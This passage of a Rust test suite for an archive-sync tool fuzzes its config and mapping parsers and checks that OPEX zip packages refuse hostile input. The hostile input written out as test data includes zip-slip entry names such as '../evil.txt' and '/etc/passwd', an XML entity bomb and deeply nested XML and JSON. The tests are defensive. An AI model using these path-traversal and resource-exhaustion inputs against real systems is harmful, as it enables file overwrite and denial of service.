        }],
        ..pv_map::PreservicaWrite::default()
    };
    let after = c.apply_write(&asset, &write).await.unwrap();
    assert_eq!(after.fragment("urn:x").unwrap().xml, fragment);
    assert_eq!(emu.fragment(&asset, "urn:x").unwrap(), fragment);
}

/// Every element's namespace, name and text, in document order.
fn tree(root: &Element) -> Vec<(Option<Arc<str>>, String, String)> {
    std::iter::once(root)
        .chain(root.descendants())
        .map(|e| (e.namespace.clone(), e.local.clone(), e.text.clone()))
        .collect()
}

async fn preservica() -> (
    ferry::preservica::emulator::PreservicaEmulator,
    ferry::preservica::client::PreservicaClient,
) {
    use ferry::config::Secret;
    use ferry::http::HttpOptions;
    use ferry::preservica::client::{Connection, PreservicaClient};
    use ferry::preservica::emulator::{self, EmulatorOptions};
    let emu = emulator::start(
        EmulatorOptions {
            seed_assets: 2,
            ..EmulatorOptions::default()
        },
        "127.0.0.1:0".parse().unwrap(),
    )
    .await
    .expect("the emulator starts");
    let o = emu.options();
    let c = PreservicaClient::new(Connection {
        base_url: emu.url(),
        username: o.username.clone(),
        password: Secret::new(o.password.clone()),
        tenant: Some(o.tenant.clone()),
        http: HttpOptions {
            initial_backoff: Duration::from_millis(5),
            max_backoff: Duration::from_millis(50),
            ..HttpOptions::default()
        },
        single_put_limit: 32 * 1024 * 1024,
        part_size: 8 * 1024 * 1024,
    })
    .unwrap();
    (emu, c)
}

// ---------------------------------------------------------------------------------------------
// Mapping and configuration files

/// One change to a file, as an editor slip or a bad merge makes them.
#[derive(Debug, Clone)]
enum Edit {
    Delete(Index),
    Duplicate(Index),
    Swap(Index, Index),
    Replace(Index, String),
    Insert(Index, String),
    Truncate(Index, Index),
}

fn edits(junk: impl Strategy<Value = String> + Clone) -> impl Strategy<Value = Vec<Edit>> {
    let edit = prop_oneof![
        any::<Index>().prop_map(Edit::Delete),
        any::<Index>().prop_map(Edit::Duplicate),
        (any::<Index>(), any::<Index>()).prop_map(|(a, b)| Edit::Swap(a, b)),
        (any::<Index>(), junk.clone()).prop_map(|(i, s)| Edit::Replace(i, s)),
        (any::<Index>(), junk).prop_map(|(i, s)| Edit::Insert(i, s)),
        (any::<Index>(), any::<Index>()).prop_map(|(a, b)| Edit::Truncate(a, b)),
    ];
    prop::collection::vec(edit, 1..6)
}

fn apply_edits(text: &str, edits: &[Edit]) -> String {
    let mut lines: Vec<String> = text.lines().map(str::to_string).collect();
    for e in edits {
        if lines.is_empty() {
            lines.push(String::new());
        }
        let n = lines.len();
        match e {
            Edit::Delete(i) => {
                lines.remove(i.index(n));
            }
            Edit::Duplicate(i) => {
                let l = lines[i.index(n)].clone();
                lines.insert(i.index(n), l);
            }
            Edit::Swap(a, b) => lines.swap(a.index(n), b.index(n)),
            Edit::Replace(i, s) => lines[i.index(n)] = s.clone(),
            Edit::Insert(i, s) => lines.insert(i.index(n + 1), s.clone()),
            Edit::Truncate(i, at) => {
                let l = &mut lines[i.index(n)];
                let chars: Vec<char> = l.chars().collect();
                *l = chars[..at.index(chars.len() + 1)].iter().collect();
            }
        }
    }
    lines.join("\n")
}

fn toml_junk(tokens: &'static [&'static str]) -> impl Strategy<Value = String> + Clone {
    prop_oneof![
        3 => prop::sample::select(tokens).prop_map(str::to_string),
        1 => "\\PC{0,24}",
        1 => any::<String>(),
    ]
}

const MAPPING_TOKENS: &[&str] = &[
    "[[field]]",
    "[fragments.x]",
    "[fragments.oai_dc]",
    "version = 1",
    "version = 2",
    "version = \"1\"",
    "version = -1",
    "name = \"title\"",
    "name = \"\"",
    "name = \"Bad Name\"",
    "kind = \"date\"",
    "kind = \"nope\"",
    "kind = 3",
    "rule = \"union\"",
    "rule = \"preservica\"",
    "rule = \"most_restrictive\"",
    "rule = \"\"",
    "values = []",
    "values = [\"a\", \"a\"]",
    "values = [1, 2]",
    "photoshelter = { iptc = \"nope\" }",
    "photoshelter = { iptc = \"title\", custom = \"x\" }",
    "photoshelter = { max_bytes = -1 }",
    "preservica = { fragment = \"nope\", element = \"x\" }",
    "preservica = { entity = \"ref\" }",
    "preservica = { fragment = \"oai_dc\" }",
    "preservica = { fragment = \"oai_dc\", element = \"\" }",
    "preservica = {",
    "schema = \"\"",
    "root_prefix = \"bad prefix\"",
    "element_namespace = \"\"",
    "x = ",
    "= 1",
    "\"",
    "'''",
    "[",
    "]]",
    "a.b.c = 1",
    "[[field]] x",
    "\u{0}",
    "\u{FEFF}",
    "when = 1979-05-27T07:32:00Z",
    "n = nan",
    "big = 99999999999999999999",
    "x = [[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[",
];

const CONFIG_TOKENS: &[&str] = &[
    "[photoshelter]",
    "[preservica]",
    "[paths]",
    "[schedule]",
    "[guard]",
    "[notify]",
    "[server]",
    "[rights]",
    "[nope]",
    "[[photoshelter]]",
    "base_url = \"ftp://example.org\"",
    "base_url = \"\"",
    "base_url = 3",
    "org_id = \"nope\"",
    "concurrency = 0",
    "concurrency = -1",
    "concurrency = 99999999999999999999",
    "timeout_secs = 1e99",
    "timeout_secs = \"60\"",
    "password = \"hunter2-SECRET\"",
    "api_key = \"hunter2-SECRET\"",
    "oauth_token = \"hunter2-SECRET\"",
    "webhook_url = \"https://hooks.invalid/hunter2-SECRET\"",
    "access_token = \"hunter2-SECRET\"",
    "password_file = \"/nonexistent/ferry/secret\"",
    "api_key_file = \"\"",
    "nightly = \"* * *\"",
    "nightly = \"61 25 * * *\"",
    "timezone = \"Mars/Olympus\"",
    "max_change_share = 2.0",
    "max_change_share = nan",
    "max_change_share = -0.0",
    "min_assets = -5",
    "listen = \"nope\"",
    "listen = \"0.0.0.0:8080\"",
    "expired = \"explode\"",
    "missing_model_release = \"restrict\"",
    "expiring_days = 4294967296",
    "mapping = 3",
    "mapping = \"\"",
    "store = \"\"",
    "protocol = \"gopher\"",
    "server = \"\"",
    "server = \"https://eu.preservica.com/path\"",
    "email = \"\"",
    "tenant = \"\"",
    "x = ",
    "= 1",
    "\"",
    "[",
    "\u{0}",
    "\u{FEFF}",
];

fn check_mapping_error(text: &str, file: &Path) -> Result<(), TestCaseError> {
    let Err(e) = Mapping::parse(text, file) else {
        return Ok(());
    };
    prop_assert!(!e.problems.is_empty());
    let shown = e.to_string();
    let name = file.display().to_string();
    prop_assert!(shown.starts_with(&name), "{shown}");
    let lines = text.lines().count().max(1);
    for p in &e.problems {
        prop_assert!(!p.message.trim().is_empty(), "{shown}");
        if let Some(n) = p.line {
            prop_assert!((1..=lines + 1).contains(&n), "line {n} of {lines}: {shown}");
            let at = format!("{name}:{n}: {}", p.message);
            prop_assert!(shown.contains(&at), "{shown}");
        }
    }
    // A file that is not TOML at all is always reported at a line.
    if toml::de::DeTable::parse(text).is_err() {
        prop_assert!(e.problems[0].line.is_some(), "{shown}");
    }
    Ok(())
}

fn check_config(dir: &Path, text: &str) -> Result<(), TestCaseError> {
    let path = dir.join("ferry.toml");
    std::fs::write(&path, text).expect("config written");
    let Err(e) = Config::load(&path, &Env::empty()) else {
        return Ok(());
    };
    let shown = e.to_string();
    prop_assert!(shown.contains(&path.display().to_string()), "{shown}");
    prop_assert!(!shown.contains("hunter2"), "a secret in an error: {shown}");
    if toml::de::DeTable::parse(text).is_err() {
        let is_syntax = matches!(e, ConfigError::Syntax { .. });
        prop_assert!(is_syntax, "{shown}");
    }
    if let ConfigError::Syntax { line, .. } = e {
        prop_assert!((1..=text.lines().count() + 1).contains(&line), "{shown}");
    }
    Ok(())
}

const CONFIG_TEMPLATE: &str = include_str!("../../src/config_template.toml");

proptest! {
    #![proptest_config(config(256))]

    #[test]
    fn mangled_mappings_are_reported_with_file_and_line(e in edits(toml_junk(MAPPING_TOKENS))) {
        let text = apply_edits(Mapping::default_text(), &e);
        check_mapping_error(&text, Path::new("site/mangled-mapping.toml"))?;
    }

    #[test]
    fn random_mappings_are_reported_with_file_and_line(text in prop_oneof![any::<String>(), lossy()]) {
        check_mapping_error(&text, Path::new("random.toml"))?;
    }
}

proptest! {
    #![proptest_config(config(128))]

    #[test]
    fn mangled_configs_are_reported_with_file_and_line(e in edits(toml_junk(CONFIG_TOKENS))) {
        let dir = tempfile::tempdir().unwrap();
        check_config(dir.path(), &apply_edits(CONFIG_TEMPLATE, &e))?;
    }

    #[test]
    fn random_configs_are_reported_with_file_and_line(text in prop_oneof![any::<String>(), lossy()]) {
        let dir = tempfile::tempdir().unwrap();
        check_config(dir.path(), &text)?;
    }
}

/// Found by `mangled_configs_are_reported_with_file_and_line`: an empty secret path named
/// the config's directory, and a directory was reported as a secret file readable by
/// others (to be chmod-ed), without the config file or the key.
#[test]
fn secret_paths_that_are_not_files_are_named_in_the_config() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    // As most directories are: readable by others, which a secret file must not be.
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let path = dir.path().join("ferry.toml");
    for (value, reason) in [("", "must not be empty"), (".", "Is a directory")] {
        let text = CONFIG_TEMPLATE.replacen(
            "[photoshelter]\n",
            &format!("[photoshelter]\napi_key_file = \"{value}\"\n"),
            1,
        );
        let line = text
            .lines()
            .position(|l| l.starts_with("api_key_file"))
            .unwrap()
            + 1;
        std::fs::write(&path, &text).unwrap();
        let shown = Config::load(&path, &Env::empty()).unwrap_err().to_string();
        assert!(
            shown.starts_with(&format!(
                "{}:{line}: photoshelter.api_key_file: ",
                path.display()
            )),
            "{shown}"
        );
        assert!(shown.contains(reason), "{shown}");
    }
}

// ---------------------------------------------------------------------------------------------
// OPEX packages

const OAI_DC_FRAGMENT: &str = r#"<oai_dc:dc xmlns:oai_dc="http://www.openarchives.org/OAI/2.0/oai_dc/" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>Harbour &amp; regatta</dc:title></oai_dc:dc>"#;

/// A small real package, built once: a gallery folder with a fragment, two assets.
fn package() -> &'static [u8] {
    static P: OnceLock<Vec<u8>> = OnceLock::new();
    P.get_or_init(|| {
        let mut out = Cursor::new(Vec::new());
        let mut b = PackageBuilder::new(&mut out, "pkg").unwrap();
        let folder = b
            .add_folder(FolderSpec {
                name: "Harbour 1962".into(),
                source_id: Some("G0000abcDEFghIJK".into()),
                fragments: vec![OAI_DC_FRAGMENT.into()],
                ..FolderSpec::default()
            })
            .unwrap();
        for (i, (name, bytes)) in [
            ("DSC_0001.JPG", &b"\xff\xd8\xff\xe0 not really a jpeg"[..]),
            ("notes.txt", &b"notes & more notes"[..]),
        ]
        .into_iter()
        .enumerate()
        {
            b.add_asset(
                folder,
                AssetSpec {
                    original_name: name.into(),
                    source_id: Some(format!("I0000source{i}")),
                    identifiers: vec![("photoshelter".into(), "I0000AbCdEfGhIjK".into())],
                    fragments: vec![OAI_DC_FRAGMENT.into()],
                    expected_size: Some(bytes.len() as u64),
                    ..AssetSpec::default()
                },
                &mut &bytes[..],
            )
            .unwrap();
        }
        b.finish().unwrap();
        let zip = out.into_inner();
        read_package(&zip).expect("the untouched package reads");
        zip
    })
}

fn entries(zip: &[u8]) -> Vec<(String, Vec<u8>)> {
    let mut a = ZipArchive::new(Cursor::new(zip)).unwrap();
    (0..a.len())
        .map(|i| {
            let mut f = a.by_index(i).unwrap();
            let mut bytes = Vec::new();
            f.read_to_end(&mut bytes).unwrap();
            (f.name().unwrap().into_owned(), bytes)
        })
        .collect()
}

/// Zips entries as given, names taken literally, stored so that their bytes are what the
/// reader parses.
fn rezip(entries: &[(String, Vec<u8>)]) -> Vec<u8> {
    try_rezip(entries).expect("entries zip")
}

fn try_rezip(entries: &[(String, Vec<u8>)]) -> zip::result::ZipResult<Vec<u8>> {
    let mut w = ZipWriter::new(Cursor::new(Vec::new()));
    let options = SimpleFileOptions::default().compression_method(CompressionMethod::Stored);
    for (name, bytes) in entries {
        if name.ends_with('/') {
            w.add_directory(name.as_str(), options)?;
        } else {
            w.start_file(name.as_str(), options)?;
            w.write_all(bytes)?;
        }
    }
    Ok(w.finish()?.into_inner())
}

fn check_opex(zip: &[u8]) -> Result<(), TestCaseError> {
    if let Err(e) = read_package(zip) {
        prop_assert!(!e.to_string().trim().is_empty(), "{e:?}");
    }
    Ok(())
}

/// A corruption of one `.opex` document's text.
#[derive(Debug, Clone)]
enum OpexEdit {
    Cut(Index),
    Insert(Index, String),
    Replace(Index, Index, String),
}

fn opex_edit() -> impl Strategy<Value = OpexEdit> {
    prop_oneof![
        any::<Index>().prop_map(OpexEdit::Cut),
        (any::<Index>(), xmlish()).prop_map(|(i, s)| OpexEdit::Insert(i, s)),
        (any::<Index>(), any::<Index>(), xmlish()).prop_map(|(a, b, s)| OpexEdit::Replace(a, b, s)),
    ]
}

fn boundary(s: &str, i: &Index) -> usize {
    let mut at = i.index(s.len() + 1);
    while !s.is_char_boundary(at) {
        at -= 1;
    }
    at
}

proptest! {
    #![proptest_config(config(128))]

    #[test]
    fn random_bytes_are_not_a_package(bytes in prop::collection::vec(any::<u8>(), 0..512)) {
        prop_assert!(read_package(&bytes).is_err());
    }

    #[test]
    fn packages_with_flipped_bytes_are_read_or_refused(
        flips in prop::collection::vec((any::<Index>(), 1..=255u8), 1..8),
    ) {
        let mut zip = package().to_vec();
        for (i, x) in &flips {
            let at = i.index(zip.len());
            zip[at] ^= x;
        }
        check_opex(&zip)?;
    }

    #[test]
    fn truncated_packages_are_refused(at in any::<Index>()) {
        let zip = package();
        let cut = &zip[..at.index(zip.len())];
        let r = read_package(cut);
        prop_assert!(r.is_err(), "{} of {} bytes read as a package", cut.len(), zip.len());
    }

    #[test]
    fn packages_with_corrupted_opex_documents_are_read_or_refused(
        which in any::<Index>(),
        edits in prop::collection::vec(opex_edit(), 1..4),
    ) {
        let mut all = entries(package());
        let opex: Vec<usize> = (0..all.len()).filter(|i| all[*i].0.ends_with(".opex")).collect();
        let target = opex[which.index(opex.len())];
        let mut text = String::from_utf8(all[target].1.clone()).unwrap();
        for e in &edits {
            match e {
                OpexEdit::Cut(i) => text.truncate(boundary(&text, i)),
                OpexEdit::Insert(i, s) => text.insert_str(boundary(&text, i), s),
                OpexEdit::Replace(a, b, s) => {
                    let (a, b) = (boundary(&text, a), boundary(&text, b));
                    text.replace_range(a.min(b)..a.max(b), s);
                }
            }
        }
        all[target].1 = text.into_bytes();
        check_opex(&rezip(&all))?;
    }

    #[test]
    fn entries_named_to_escape_are_refused(
        parts in prop::collection::vec(prop::sample::select(&[
            "..", ".", "", "pkg", "a", "b.opex", "C:", "\\", "..\\..", "\u{0}", "é", " ", "~",
        ][..]), 1..6),
        leading_slash in any::<bool>(),
    ) {
        let name = format!("{}{}", if leading_slash { "/" } else { "" }, parts.join("/"));
        let mut all = entries(package());
        all.push((name.clone(), b"escaped".to_vec()));
        // The writer refuses a second entry of the same name; nothing to read then.
        let Ok(zip) = try_rezip(&all) else {
            return Ok(());
        };
        let r = read_package(&zip);
        if parts.iter().any(|p| p.contains("..")) || leading_slash {
            let refused = matches!(r, Err(OpexError::UnsafePath { .. }));
            prop_assert!(refused, "{name:?}: {r:?}");
        }
        if let Err(e) = r {
            prop_assert!(!e.to_string().trim().is_empty());
        }
    }
}

#[test]
fn zip_slip_names_are_refused() {
    for name in [
        "../evil.txt",
        "pkg/../../evil.txt",
        "pkg/a/../../../evil.txt",
        "/etc/passwd",
        "C:\\Windows\\evil.dll",
        "pkg\\..\\evil.txt",
        "pkg/./evil.txt",
        "pkg//evil.txt",
    ] {
        let mut all = entries(package());
        all.push((name.to_string(), b"escaped".to_vec()));
        let e = read_package(&rezip(&all)).unwrap_err();
        assert!(matches!(e, OpexError::UnsafePath { .. }), "{name}: {e}");
        assert!(e.to_string().contains(&format!("{name:?}")), "{e}");
    }
}

// ---------------------------------------------------------------------------------------------
// Bombs and deep nesting, at every XML entry point

/// Where a package puts a document in its folder's `.opex`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Place {
    /// As descriptive metadata.
    Fragment,
    /// Inside an OPEX element.
    Properties,
    /// As the `.opex` itself.
    Whole,
}

fn package_with_opex(xml: &str, place: Place) -> Vec<u8> {
    let wrap = |tag: &str| {
        format!(
            "<opex:OPEXMetadata xmlns:opex=\"{OPEX_NS}\"><opex:{tag}>{xml}</opex:{tag}></opex:OPEXMetadata>"
        )
    };
    let doc = match place {
        Place::Fragment => wrap("DescriptiveMetadata"),
        Place::Properties => wrap("Properties"),
        Place::Whole => xml.to_string(),
    };
    rezip(&[
        ("pkg/".into(), Vec::new()),
        (
            "pkg/pkg.opex".into(),
            format!("<opex:OPEXMetadata xmlns:opex=\"{OPEX_NS}\"/>").into_bytes(),
        ),
        ("pkg/g/".into(), Vec::new()),
        ("pkg/g/g.opex".into(), doc.into_bytes()),
    ])
}

/// Feeds `xml` to every reader of untrusted XML and checks each refuses it, quickly, with a
/// message containing `word`.
fn refused_everywhere(what: &str, doc: String, word: &'static str) {
    let what = what.to_string();
    on_small_stack(move || {
        let (what, src) = (what.as_str(), doc.as_str());
        let e = timed(what, || xml::parse(src)).unwrap_err();
        assert!(e.message.contains(word), "{what}: xml::parse: {e}");
        // Nesting is refused as soon as it passes the limit, not after reading it all.
        if word == "deeper than" {
            assert!(
                e.position < 4096,
                "{what}: stopped at byte {} of {}",
                e.position,
                src.len()
            );
        }

        let record = record_with(src);
        let read = timed(what, || pv_map::read_record(mapping(), &record));
        let unreadable: Vec<_> = read
            .problems
            .iter()
            .filter(|p| p.detail.contains("not readable XML"))
            .collect();
        assert!(!unreadable.is_empty(), "{what}: {:?}", read.problems);
        for p in unreadable {
            assert!(p.detail.contains(word), "{what}: read_record: {}", p.detail);
        }
        let write = timed(what, || {
            pv_map::plan_write(mapping(), &record, &fragment_changes())
        });
        assert!(write.fragments.is_empty(), "{what}: an edit was planned");
        assert_eq!(write.problems.len(), fragment_changes().len(), "{what}");
        for p in &write.problems {
            assert!(p.detail.contains(word), "{what}: plan_write: {}", p.detail);
        }

        // As descriptive metadata inside an `.opex`, inside one of its own elements, and as
        // the `.opex` itself.
        for place in [Place::Fragment, Place::Properties, Place::Whole] {
            let zip = package_with_opex(src, place);
            let e = timed(what, || read_package(&zip)).unwrap_err();
            assert!(
                matches!(e, OpexError::Xml { .. }),
                "{what} ({place:?}): {e}"
            );
            assert!(
                e.to_string().contains("pkg/g/g.opex"),
                "{what} ({place:?}): {e}"
            );
            if place != Place::Whole {
                assert!(e.to_string().contains(word), "{what} ({place:?}): {e}");
            }
        }
    });
}

#[test]
fn billion_laughs_is_refused_everywhere() {
    refused_everywhere("billion laughs", BILLION_LAUGHS.to_string(), "DOCTYPE");
}

#[test]
fn deep_nesting_is_refused_everywhere() {
    refused_everywhere("100 000 levels", deep(100_000), "deeper than");
}

#[test]
fn every_hostile_document_is_refused_everywhere() {
    for (what, xml, word) in hostile_documents() {
        refused_everywhere(what, xml, word);
    }
}

#[test]
fn deeply_nested_json_is_refused_by_serde_json() {
    on_small_stack(|| {
        for body in [
            format!("{}{}", "[".repeat(100_000), "]".repeat(100_000)),
            format!("{}1{}", "{\"data\":".repeat(100_000), "}".repeat(100_000)),
        ] {
            let e = timed("deep JSON", || {
                serde_json::from_slice::<Value>(body.as_bytes())
            })
            .unwrap_err();
            assert!(e.to_string().contains("recursion limit"), "{e}");
        }
        // Within serde_json's limit of 128 levels, a deep value is read and dropped safely.
        let ok = format!("{}{}", "[".repeat(120), "]".repeat(120));
        check_json(&serde_json::from_str::<Value>(&ok).unwrap());
    });
}

#[tokio::test]
async fn deeply_nested_json_from_photoshelter_is_a_clear_error() {
    use crate::photoshelter::{bounded, client, options, start};
    use ferry::photoshelter::client::PhotoShelterError;
    use ferry::photoshelter::emulator::Override;
    bounded(async {
        let emu = start(options(3)).await;
        let c = client(&emu);
        let id = emu.media_ids()[0].clone();
        let path = format!("/psapi/v4.0/media/{id}");
        emu.override_response(Override {
            method: Some("GET".into()),
            path: path.clone(),
            status: 200,
            content_type: "application/json".into(),
            body: format!(
                "{{\"data\":{}{}}}",
                "[".repeat(100_000),
                "]".repeat(100_000)
            ),
            // Every fetch: an unreadable answer is fetched again within the retry budget.
            times: 20,
        });
        let e = c.read_record(&id).await.unwrap_err();
        let text = e.to_string();
        assert!(matches!(e, PhotoShelterError::Malformed { .. }), "{text}");
        assert!(
            text.contains("recursion limit") && text.contains(&path),
            "{text}"
        );
    })
    .await
}

#[tokio::test]
async fn hostile_fragments_from_preservica_are_clear_errors() {
    use ferry::preservica::client::PreservicaError;
    let (emu, c) = preservica().await;
    let asset = emu.asset_refs()[0].clone();
    for (what, xml, word) in [
        ("deep", deep(100_000), "deeper than"),
        ("bomb", BILLION_LAUGHS.to_string(), "DOCTYPE"),
    ] {
        emu.set_fragment(&asset, DC_SCHEMA, &xml);
        let started = Instant::now();
        let e = c.read_asset(&asset).await.unwrap_err();
        assert!(started.elapsed() < QUICK * 2, "{what}");
        let text = e.to_string();
        assert!(
            matches!(e, PreservicaError::Malformed { .. }),
            "{what}: {text}"
        );
        assert!(text.contains(word), "{what}: {text}");
    }
}

// ---------------------------------------------------------------------------------------------
// Costs proportional to the document

#[test]
fn a_namespace_name_is_held_once_however_many_elements_use_it() {
    let uri = format!("urn:{}", "n".repeat(1000));
    let src = format!("<r xmlns=\"{uri}\">{}</r>", "<x/>".repeat(20_000));
    let doc = timed("20 000 elements", || xml::parse(&src)).unwrap();
    let first = doc.root.namespace.clone().unwrap();
    assert_eq!(&*first, uri);
    assert!(
        doc.root
            .children
            .iter()
            .all(|c| c.namespace.as_ref().is_some_and(|n| Arc::ptr_eq(n, &first)))
    );
}

#[test]
fn overlong_namespace_names_are_refused() {
    let at_limit = format!("urn:{}", "n".repeat(xml::MAX_NAMESPACE_BYTES - 4));
    assert!(xml::parse(&format!("<r xmlns=\"{at_limit}\"/>")).is_ok());
    let over = format!("{at_limit}n");
    let e = xml::parse(&format!("<r xmlns=\"{over}\"/>")).unwrap_err();
    assert!(
        e.message.contains("namespace name") && e.message.contains("1024"),
        "{e}"
    );
}

#[test]
fn a_byte_order_mark_does_not_shift_what_is_cut_out() {
    let doc = xml::parse("\u{FEFF}<p:r xmlns:p=\"urn:p\"><p:x/></p:r>").unwrap();
    assert_eq!(
        doc.extract(&doc.root),
        "<p:r xmlns:p=\"urn:p\"><p:x/></p:r>"
    );
    assert_eq!(
        doc.extract(doc.root.child("x").unwrap()),
        "<p:x xmlns:p=\"urn:p\"/>"
    );
}

#[test]
fn extracted_elements_carry_the_innermost_declarations() {
    let src = r#"<r xmlns:p="urn:outer" xmlns="urn:default"><a xmlns:p="urn:inner"><p:x/><b xmlns:q="urn:q"><q:y p:z="1"/></b></a><p:w/><v/></r>"#;
    let doc = xml::parse(src).unwrap();
    let a = doc.root.child("a").unwrap();
    assert_eq!(
        doc.extract(a.child("x").unwrap()),
        r#"<p:x xmlns:p="urn:inner"/>"#
    );
    assert_eq!(
        doc.extract(a.child("b").unwrap().child("y").unwrap()),
        r#"<q:y xmlns:p="urn:inner" xmlns:q="urn:q" p:z="1"/>"#
    );
    assert_eq!(
        doc.extract(doc.root.child("w").unwrap()),
        r#"<p:w xmlns:p="urn:outer"/>"#
    );
    assert_eq!(
        doc.extract(doc.root.child("v").unwrap()),
        r#"<v xmlns="urn:default"/>"#
    );
}

#[test]
fn fragments_cannot_multiply_inherited_declarations() {
    // One long declaration on the OPEX root, inherited by many tiny fragments: each would
    // carry its own copy.
    let uri = format!("urn:{}", "n".repeat(1000));
    let fragments = "<p:x/>".repeat(2_000);
    let doc = format!(
        "<opex:OPEXMetadata xmlns:opex=\"{OPEX_NS}\" xmlns:p=\"{uri}\"><opex:DescriptiveMetadata>{fragments}</opex:DescriptiveMetadata></opex:OPEXMetadata>"
    );
    let e = timed("2 000 fragments", || {
        read_package(&package_with_opex(&doc, Place::Whole))
    })
    .unwrap_err();
    assert!(e.to_string().contains("inherit"), "{e}");
    // A few fragments relying on the root's declarations are fine.
    let doc = doc.replace(&fragments, "<p:x/><p:y>1</p:y>");
    let plan = read_package(&package_with_opex(&doc, Place::Whole)).unwrap();
    let folder = plan.folders.iter().find(|f| f.path == "g").unwrap();
    assert_eq!(folder.fragments.len(), 2);
    assert!(folder.fragments[0].1.contains(&uri));
}
